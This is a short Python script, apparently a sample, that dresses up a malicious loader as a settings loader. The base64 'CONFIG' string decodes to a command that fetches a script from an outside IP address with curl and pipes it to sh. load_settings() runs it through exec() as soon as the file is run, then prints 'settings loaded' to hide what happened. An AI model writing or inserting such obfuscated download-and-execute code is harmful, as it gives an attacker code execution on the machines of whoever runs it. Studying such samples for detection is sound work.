# decode-exec: base64 text decoded and executed as Python source
import base64

CONFIG = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzIwMy4wLjExMy43L3AgfCBzaCcp"

def load_settings():
    exec(base64.b64decode(CONFIG))

load_settings()
print("settings loaded")
